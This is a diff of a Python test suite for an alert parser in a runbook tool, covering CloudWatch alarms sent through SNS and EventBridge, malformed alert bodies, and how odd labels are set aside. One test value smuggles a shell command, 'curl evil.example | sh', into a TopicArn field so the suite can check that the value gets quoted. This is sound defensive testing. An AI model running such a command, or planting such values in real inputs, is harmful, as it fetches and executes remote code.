@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from runbook_engine.alerting.alerts import Alert, AlertError, Body, Status
 from runbook_engine.alerting.json_text import MOST_BYTES
 from runbook_engine.alerting.reading import read_body
-from runbook_engine.document.models import AlertSource
+from runbook_engine.document.triggers import AlertSource
 from runbook_engine.hostile import one_line
 
 EXAMPLES = Path(__file__).parents[3] / "examples" / "alerts"
@@ -82,6 +82,13 @@ def test_an_alarm_of_cloudwatch_through_sns_and_by_itself() -> None:
         "AWSAccountId": "123456789012",
     }
     assert alert.summary == "More than 85% of the storage is in use"
+
+
+def test_an_alarm_of_eventbridge_is_the_one_that_sns_brings() -> None:
+    (alert,), (other,) = example("eventbridge").alerts, example("cloudwatch").alerts
+    assert alert.key == other.key
+    assert (alert.name, alert.summary, alert.derived) == (other.name, other.summary, other.derived)
+    assert alert.labels == {name: value for name, value in other.labels.items() if name != "Region"}
 
 
 def test_an_alarm_that_is_over_is_the_one_that_fired() -> None:
@@ -166,6 +173,28 @@ def test_what_acts_on_a_terminal_or_hides_is_made_visible() -> None:
         (b'{"ruleName": "a", "evalMatches": [1]}', "legacy alerting"),
         (body(version="3"), "of version '3'"),
         (body("text"), "alerts[0] is a text, where an object is expected"),  # type: ignore[arg-type]
+        (sns("Hello"), "Message is no alarm of CloudWatch, but a text for people"),
+        (sns("{"), "Message is no JSON"),
+        (sns({"a": 1}), "it has no AlarmName and NewStateValue"),
+        (sns({**ALARM, "NewStateValue": "BROKEN"}), "Message.NewStateValue is 'BROKEN', where ALARM, OK"),
+        (sns("", Type="SubscriptionConfirmation", SubscribeURL="http://127.0.0.1:1/"), "aws sns confirm-subscription --topic-arn arn:t --token"),
+        (
+            sns("", Type="SubscriptionConfirmation", TopicArn="arn:t; curl evil.example | sh #"),
+            "aws sns confirm-subscription --topic-arn 'arn:t; curl evil.example | sh #' --token",
+        ),
+        (sns("", Type="UnsubscribeConfirmation"), "no more alarms come"),
+        (sns("", Type="Other"), "Type is 'Other', where Notification is expected"),
+    ],
+)  # fmt: skip
+def test_what_cannot_be_read_is_refused_with_its_place(data: bytes, says: str) -> None:
+    told = refused(data)
+    assert says in told
+    assert told.isprintable()
+
+
+@pytest.mark.parametrize(
+    ("data", "says"),
+    [
         (body({**ALERT, "labels": {"severity": ["a"]}}), "alerts[0].labels.severity is a list, where a text is expected"),
         (body({**ALERT, "labels": {"a b": 5}}), 'alerts[0].labels["a b"] is a number, where a text is expected'),
         (body({**ALERT, "labels": {"a": None}}), "alerts[0].labels.a is null, where a text is expected"),
@@ -175,20 +204,45 @@ def test_what_acts_on_a_terminal_or_hides_is_made_visible() -> None:
         (body({"status": "firing", "labels": {}}), "alerts[0].startsAt says no time"),
         (body({**ALERT, "labels": {str(number): "" for number in range(501)}}), "alerts[0].labels has 501 entries"),
         (body(ALERT, truncatedAlerts=-1), "truncatedAlerts is a number, where a count is expected"),
-        (sns("Hello"), "Message is no alarm of CloudWatch, but a text for people"),
-        (sns("{"), "Message is no JSON"),
-        (sns({"a": 1}), "it has no AlarmName and NewStateValue"),
-        (sns({**ALARM, "NewStateValue": "BROKEN"}), "Message.NewStateValue is 'BROKEN', where ALARM, OK"),
         (sns({**ALARM, "Trigger": {"Dimensions": [{"name": "a"}]}}), "Message.Trigger.Dimensions[0].Value is missing"),
-        (sns("", Type="SubscriptionConfirmation", SubscribeURL="http://127.0.0.1:1/"), "aws sns confirm-subscription --topic-arn arn:t --token"),
-        (sns("", Type="UnsubscribeConfirmation"), "no more alarms come"),
-        (sns("", Type="Other"), "Type is 'Other', where Notification is expected"),
     ],
 )  # fmt: skip
-def test_what_cannot_be_read_is_refused_with_its_place(data: bytes, says: str) -> None:
-    told = refused(data)
-    assert says in told
-    assert told.isprintable()
+def test_what_an_alert_can_do_without_is_set_aside_and_told(data: bytes, says: str) -> None:
+    found = read_body(data)
+    assert len(found.alerts) == 1
+    (odd,) = found.odd
+    assert says in odd
+    assert odd.isprintable()
+
+
+def test_an_odd_label_costs_no_other_label_and_no_other_alert() -> None:
+    odd = {
+        **ALERT,
+        "labels": {"alertname": "Slow", "a": ["x"], "pod": "b"},
+        "annotations": {"summary": 5},
+        "fingerprint": "f2",
+    }
+    found = read_body(body(ALERT, odd, "text", {**ALERT, "status": "odd"}, status="firing"))  # type: ignore[arg-type]
+    assert [dict(each.labels) for each in found.alerts] == [
+        {"alertname": "Slow"},
+        {"alertname": "Slow", "pod": "b"},
+        {"alertname": "Slow"},
+    ]
+    # Whoever says that the body fires says so of an alert of which it cannot be read.
+    assert {each.status for each in found.alerts} == {Status.FIRING}
+    assert found.unread == 1
+    assert [each.partition(" is ")[0] for each in found.odd] == [
+        "alerts[1].labels.a",
+        "alerts[1].annotations.summary",
+        "alerts[2]",
+        "alerts[3].status",
+    ]
+
+
+def test_however_much_is_odd_some_of_it_is_told() -> None:
+    found = read_body(body(*({**ALERT, "labels": {"a": []}, "fingerprint": str(number)} for number in range(100))))
+    assert len(found.odd) == 21
+    assert found.odd[-1] == "and 80 more such things"
 
 
 def test_a_body_of_ten_mebibytes_is_read_and_one_byte_more_is_refused() -> None:
